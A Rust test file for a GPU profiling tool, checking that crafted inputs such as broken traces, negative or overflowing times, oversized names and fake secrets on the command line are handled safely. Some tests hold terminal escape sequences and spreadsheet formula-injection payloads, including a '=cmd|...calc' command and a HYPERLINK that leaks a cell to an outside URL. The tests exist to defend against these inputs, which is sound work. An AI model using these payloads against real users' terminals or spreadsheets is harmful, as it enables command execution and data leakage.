//! Inputs that were made to do harm, and command lines with secrets in them.

#![cfg(unix)]

#[path = "support/scratch.rs"]
#[allow(dead_code, reason = "each test file takes what it needs")]
mod scratch;
mod support;

use std::fs;
use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use scratch::{Output, Scratch};
use serde_json::{Value, json};

/// Files beneath a folder.
fn files(folder: &Path) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    entries.flat_map(|path| if path.is_dir() { files(&path) } else { vec![path] }).collect()
}

fn bytes(folder: &Path) -> u64 {
    files(folder).iter().map(|file| file.metadata().unwrap().len()).sum()
}

fn launched(number: u64, start: u64, name: &str) -> [Value; 2] {
    let of = |category: &str, name: &str, start: u64| {
        json!({"ph": "X", "cat": category, "name": name, "pid": 9, "tid": 9, "ts": start, "dur": 2,
            "args": {"correlation": number, "device": 0, "stream": 7}})
    };
    [of("cuda_runtime", "cudaLaunchKernel", start), of("kernel", name, start + 3)]
}

fn range(name: &str, start: u64, length: u64) -> Value {
    json!({"ph": "X", "cat": "user_annotation", "name": name, "pid": 9, "tid": 9, "ts": start, "dur": length})
}

fn import(scratch: &Scratch, events: &[Value]) -> Output {
    let trace = json!({"schemaVersion": 1, "traceEvents": events,
        "deviceProperties": [{"id": 0, "name": "NVIDIA H100", "totalGlobalMem": 1u64 << 36}]});
    fs::write(scratch.path("trace.json"), trace.to_string()).unwrap();
    Output::of(scratch.command(&["import", "trace.json", "--out", "run"]))
}

#[test]
fn ten_thousand_ranges_that_are_never_closed_cost_what_ten_thousand_ranges_cost() {
    let scratch = Scratch::new();
    let depth = 10_000;
    let mut events: Vec<Value> =
        (0..depth).map(|place| range(&format!("range {place}"), place, 4 * depth - 2 * place)).collect();
    events.extend(launched(1, depth + 5, "k"));
    let output = import(&scratch, &events);
    assert_eq!(output.code, 0, "{}", output.stderr);
    let metrics = scratch.json("run", "metrics.json");
    let left_out =
        metrics["quality"].as_array().unwrap().iter().find(|one| one["counter"] == "regions_left_out").unwrap();
    let regions = metrics["regions"].as_array().unwrap();
    assert_eq!(left_out["value"].as_u64().unwrap() + regions.len() as u64, depth);
    assert_eq!(regions[0]["path"], "range 0");
    // A megabyte of trace: the paths that are kept are bounded, and nothing else grows with the depth.
    assert!(bytes(&scratch.path("run")) < 60_000_000, "{}", bytes(&scratch.path("run")));
}

#[test]
fn one_long_name_is_not_repeated_for_every_row() {
    let scratch = Scratch::new();
    let long = "x".repeat(200_000);
    let mut events = vec![range(&long, 0, 30_000)];
    for place in 0..1_000 {
        let name = if place == 0 { long.clone() } else { format!("kernel{place}") };
        events.extend(launched(place, place * 20, &name));
        events.push(range(&format!("range {place}"), place * 20, 18));
    }
    let output = import(&scratch, &events);
    assert_eq!(output.code, 0, "{}", output.stderr);
    assert!(bytes(&scratch.path("run")) < 60_000_000, "{}", bytes(&scratch.path("run")));
}

#[test]
fn eighty_thousand_launches_of_one_number_are_joined_in_one_walk() {
    let scratch = Scratch::new();
    let events: Vec<Value> = (0..80_000).flat_map(|place| launched(1, place * 10, "k")).collect();
    let output = import(&scratch, &events);
    assert_eq!(output.code, 0, "{}", output.stderr);
    assert_eq!(scratch.json("run", "metrics.json")["totals"]["kernel_count"], 80_000);
}

#[test]
fn a_thousand_layers_are_laid_out_without_walking_over_all_operations_for_each() {
    let scratch = Scratch::new();
    let config = json!({"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "intermediate_size": 128,
        "num_hidden_layers": 1_024, "num_attention_heads": 4, "num_key_value_heads": 4, "vocab_size": 100,
        "rms_norm_eps": 1e-5, "hidden_act": "silu", "torch_dtype": "bfloat16", "max_position_embeddings": 64});
    fs::write(scratch.path("config.json"), config.to_string()).unwrap();
    let output = Output::of(scratch.command(&["analyze", "--model", "config.json", "--hardware", "h200", "--json"]));
    assert_eq!(output.code, 0, "{}", output.stderr);
    let report: Value = serde_json::from_str(&output.stdout).unwrap();
    assert_eq!(report["model"]["num_layers"], 1_024);
}

#[test]
fn impossible_times_of_a_trace_are_counted_and_not_printed() {
    let scratch = Scratch::new();
    let mut events: Vec<Value> = launched(1, 10, "k").into();
    let mut negative = launched(2, 50, "backwards");
    negative[1]["dur"] = json!(-1000);
    events.extend(negative);
    let output = import(&scratch, &events);
    assert!([0, 3].contains(&output.code), "{}", output.stderr);
    let metrics = scratch.json("run", "metrics.json");
    assert!(!metrics["quality"].as_array().unwrap().is_empty(), "nothing says that a time was left out");
    for kernel in metrics["kernels"].as_array().unwrap() {
        assert!(kernel["total_ns"].as_i64().unwrap() >= 0, "{kernel}");
    }
    let (busy, wall) = (metrics["totals"]["gpu_busy_ns"].as_i64(), metrics["totals"]["wall_ns"].as_i64());
    assert!(busy.zip(wall).is_none_or(|(busy, wall)| busy <= wall), "{}", metrics["totals"]);
}

#[test]
fn times_at_the_end_of_the_range_neither_wrap_nor_panic() {
    let scratch = Scratch::new();
    let mut events = Vec::new();
    for number in 0..4 {
        let mut pair = launched(number, 10 * number, "k");
        pair[1]["ts"] = json!(9.2e15);
        pair[1]["dur"] = json!(9.2e15);
        events.extend(pair);
    }
    let output = import(&scratch, &events);
    assert!([0, 1, 3].contains(&output.code), "{}", output.stderr);
    assert!(!output.stderr.contains("panicked"), "{}", output.stderr);
}

#[test]
fn what_a_file_says_cannot_command_the_terminal() {
    let scratch = Scratch::new();
    let name = "conf/model\u{202e}gnp\u{1b}[2J";
    fs::create_dir_all(scratch.path(name)).unwrap();
    fs::write(scratch.path(name).join("a\u{1b}[31m.yaml"), "a: 1\n").unwrap();
    fs::write(scratch.path("bad.json"), "{\"architectures\": [\"\u{202e}\\u001b]0;owned\\u0007\"]}").unwrap();
    for arguments in [
        &["config", "--groups", "--config-dir", "conf"][..],
        &["analyze", "--model", "bad.json"],
        &["import", "\u{1b}[31mnowhere\u{202e}.json"],
    ] {
        let output = Output::of(scratch.command(arguments));
        let said = output.stdout + &output.stderr;
        assert!(!said.contains(['\u{1b}', '\u{202e}', '\u{7}']), "{arguments:?}: {said:?}");
        assert!(said.contains("\\u{202e}"), "{arguments:?}: {said}");
    }
}

#[test]
fn secrets_on_the_command_line_are_in_no_file_of_the_run_and_the_run_is_private() {
    let scratch = Scratch::new();
    let secrets = [
        "--api-key",
        "S3CRET-ONE",
        "password=S3CRET-TWO",
        "https://me:S3CRET-THREE@host",
        "Authorization: Bearer S3CRET-FOUR-1",
    ];
    let command = [
        &["profile", "--out", "run", "dataset.sampling.repeats=1", "--", "sh", "-c", "sleep 0.01", "name"][..],
        &secrets,
    ]
    .concat();
    let output = Output::of(scratch.command(&command));
    assert_eq!(output.code, 0, "{}", output.stderr);
    let run = scratch.path("run");
    for file in files(&run) {
        let content = fs::read(&file).unwrap();
        let holds = content.windows(6).any(|window| window == b"S3CRET");
        assert!(!holds, "{}: {}", file.display(), String::from_utf8_lossy(&content));
        assert_eq!(file.metadata().unwrap().permissions().mode() & 0o077, 0, "{}", file.display());
    }
    assert!(!(output.stdout + &output.stderr).contains("S3CRET"));
    assert!(scratch.text("run", "logs/command-0.argv").contains("--api-key '***'"));
    assert_eq!(run.metadata().unwrap().permissions().mode() & 0o077, 0);

    let kept = [&["--keep-arguments"][..], &command]
        .concat()
        .iter()
        .map(|word| word.replace("run", "kept"))
        .collect::<Vec<_>>();
    let kept: Vec<&str> = kept.iter().map(String::as_str).collect();
    assert_eq!(Output::of(scratch.command(&kept)).code, 0);
    assert!(scratch.text("kept", "manifest.json").contains("S3CRET-ONE"));
}

/// A page of Nsight Compute with its text changed.
fn changed_page(scratch: &Scratch, name: &str, change: impl Fn(String) -> String) {
    let fixture = "tests/fixtures/regions/kernel/A==A1%+A%A1%+B%/raw.csv.gz";
    let packed = fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join(fixture)).unwrap();
    let mut text = String::new();
    flate2::read::GzDecoder::new(&packed[..]).read_to_string(&mut text).unwrap();
    fs::write(scratch.path(name), change(text)).unwrap();
}

#[test]
fn a_kernel_named_like_a_formula_is_text_in_a_spreadsheet() {
    let scratch = Scratch::new();
    let formula = r#"=HYPERLINK(""http://example.org/?x="" & A1, ""click"")"#;
    changed_page(&scratch, "raw.csv", |text| text.replace("void vectorized_elementwise_kernel", formula));
    let output = Output::of(scratch.command(&["regions", "--from", "raw.csv", "--out", "run"]));
    assert_eq!(output.code, 0, "{}", output.stderr);
    let tables: Vec<PathBuf> =
        files(&scratch.path("run")).into_iter().filter(|file| file.ends_with("kernels.csv")).collect();
    assert!(!tables.is_empty());
    for table in tables {
        let text = fs::read_to_string(&table).unwrap();
        assert!(text.contains(r#","'=HYPERLINK(""http://"#), "{text}");
        // A cell starts behind a comma or at the start of a line, with or without a quote.
        for start in [",=", ",\"=", "\n=", "\n\"="] {
            assert!(!text.contains(start), "{start:?}: {text}");
        }
    }
}

#[test]
fn negative_times_of_nsight_compute_are_counted_and_in_no_report() {
    let scratch = Scratch::new();
    changed_page(&scratch, "raw.csv", |text| {
        let column =
            text.lines().next().unwrap().split("\",\"").position(|name| name == "gpu__time_duration.sum").unwrap();
        let negated = |line: &str| {
            let mut cells: Vec<String> = line.split("\",\"").map(str::to_owned).collect();
            cells[column] = format!("-{}", cells[column]);
            cells.join("\",\"")
        };
        let lines = text.lines().enumerate();
        lines.map(|(place, line)| if place == 3 { negated(line) } else { line.to_owned() } + "\n").collect()
    });
    for verb in [&["regions", "--from", "raw.csv", "--out", "regions"][..], &["import", "raw.csv", "--out", "import"]] {
        let output = Output::of(scratch.command(verb));
        assert!([0, 3].contains(&output.code), "{verb:?}: {}", output.stderr);
        let metrics = scratch.json(verb[verb.len() - 1], "metrics.json");
        let counters = metrics["quality"].as_array().unwrap();
        assert!(counters.iter().any(|one| one["counter"] == "ncu_numbers_impossible"), "{verb:?}: {counters:?}");
        assert!(!metrics.to_string().contains("_ns\":-"), "{verb:?}");
    }
}

#[test]
fn negative_times_of_nsys_stats_are_counted_and_in_no_report() {
    let scratch = Scratch::new();
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../ingest/tests/fixtures/nsys_stats/nsys-dsocr-cuda_gpu_kern_sum.csv");
    let text = fs::read_to_string(fixture).unwrap();
    let lines: Vec<String> = text
        .lines()
        .enumerate()
        .map(|(place, line)| {
            let mut cells: Vec<String> = line.split(',').map(str::to_owned).collect();
            if place == 1 {
                cells[1] = format!("-{}", cells[1]);
            }
            cells.join(",")
        })
        .collect();
    fs::write(scratch.path("kern_sum.csv"), lines.join("\n") + "\n").unwrap();
    let output = Output::of(scratch.command(&["import", "kern_sum.csv", "--out", "run"]));
    // A row that cannot be is a part of the input that is missing.
    assert_eq!(output.code, 3, "{}", output.stderr);
    assert!(output.stderr.contains("kern_sum.csv"), "{}", output.stderr);
    let metrics = scratch.json("run", "metrics.json");
    let unreadable =
        metrics["quality"].as_array().unwrap().iter().find(|one| one["counter"] == "nsys_stats_rows_unreadable");
    assert_eq!(unreadable.unwrap()["value"], 1);
    assert!(!metrics.to_string().contains("_ns\":-"), "{metrics}");
}

#[test]
fn shares_far_above_a_peak_are_counted_and_in_no_report() {
    let scratch = Scratch::new();
    changed_page(&scratch, "raw.csv", |text| {
        let names: Vec<String> = text.lines().next().unwrap().split("\",\"").map(str::to_owned).collect();
        let is_share =
            |name: &str| name.contains("throughput.avg.pct_of_peak") || name.contains("warps_active.avg.pct");
        let columns: Vec<usize> = (0..names.len()).filter(|place| is_share(&names[*place])).collect();
        assert!(!columns.is_empty(), "the fixture has no share of a peak");
        let raised = |line: &str| {
            let mut cells: Vec<String> = line.split("\",\"").map(str::to_owned).collect();
            for column in &columns {
                cells[*column] = "900".to_owned();
            }
            cells.join("\",\"")
        };
        text.lines()
            .enumerate()
            .map(|(place, line)| if place > 1 { raised(line) } else { line.to_owned() } + "\n")
            .collect()
    });
    for verb in [&["regions", "--from", "raw.csv", "--out", "regions"][..], &["import", "raw.csv", "--out", "import"]] {
        let output = Output::of(scratch.command(verb));
        assert!([0, 3].contains(&output.code), "{verb:?}: {}", output.stderr);
        let run = verb[verb.len() - 1];
        let counters = scratch.json(run, "metrics.json")["quality"].as_array().unwrap().clone();
        assert!(counters.iter().any(|one| one["counter"] == "ncu_numbers_impossible"), "{verb:?}: {counters:?}");
        for file in
            files(&scratch.path(run)).iter().filter(|file| file.extension().is_some_and(|ending| ending == "md"))
        {
            let text = fs::read_to_string(file).unwrap();
            assert!(!text.contains("900%") && !text.contains("900.0%"), "{}: {text}", file.display());
        }
    }
}

#[test]
fn a_device_is_never_busier_than_the_time_around_it() {
    let scratch = Scratch::new();
    // A range of one microsecond, and kernels that nothing launched ten times as long beside it on as many streams.
    let mut events = vec![range("decode", 0, 1), range("prefill", 0, 1)];
    for stream in 0..10 {
        let mut kernel = launched(stream, 0, "k")[1].clone();
        kernel["args"] = json!({"device": 0, "stream": stream});
        kernel["dur"] = json!(10);
        events.push(kernel);
    }
    let output = import(&scratch, &events);
    assert!([0, 3].contains(&output.code), "{}", output.stderr);
    let metrics = scratch.json("run", "metrics.json");
    let (busy, wall) = (metrics["totals"]["gpu_busy_ns"].as_i64(), metrics["totals"]["wall_ns"].as_i64());
    assert!(busy.zip(wall).is_none_or(|(busy, wall)| busy <= wall), "{}", metrics["totals"]);
    for stage in metrics["stages"].as_array().unwrap() {
        let (busy, wall) = (stage["gpu_busy_ns"].as_i64(), stage["wall_ns"].as_i64());
        assert!(busy.zip(wall).is_none_or(|(busy, wall)| busy <= wall), "{stage}");
    }
    let report = scratch.text("run", "report.md");
    let shares = report
        .split_whitespace()
        .filter_map(|word| word.trim_matches(['(', ')', ',', '.']).strip_suffix('%')?.parse().ok());
    let above: Vec<f64> = shares.filter(|share: &f64| *share > 100.0).collect();
    assert!(above.is_empty(), "{above:?}: {report}");
}

#[test]
fn names_of_kernels_command_neither_terminal_nor_spreadsheet() {
    let scratch = Scratch::new();
    let name = "\u{1b}]0;owned\u{7}\u{202e}=cmd|'/c calc'!A0";
    let events: Vec<Value> = (0..3).flat_map(|place| launched(place, place * 20, name)).collect();
    let output = import(&scratch, &events);
    assert_eq!(output.code, 0, "{}", output.stderr);
    let shown = Output::of(scratch.command(&["show", "./run"]));
    for said in [output.stdout, output.stderr, shown.stdout, shown.stderr, scratch.text("run", "kernels.md")] {
        assert!(!said.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{said:?}");
    }
    changed_page(&scratch, "raw.csv", |text| text.replace("void vectorized_elementwise_kernel", "\u{1b}[31m\u{202e}x"));
    assert_eq!(Output::of(scratch.command(&["regions", "--from", "raw.csv", "--out", "regions"])).code, 0);
    let tables: Vec<PathBuf> =
        files(&scratch.path("regions")).into_iter().filter(|file| file.ends_with("kernels.csv")).collect();
    assert!(!tables.is_empty());
    for table in tables {
        let text = fs::read_to_string(&table).unwrap();
        assert!(!text.contains(['\u{1b}', '\u{202e}']), "{}: {text:?}", table.display());
    }
}
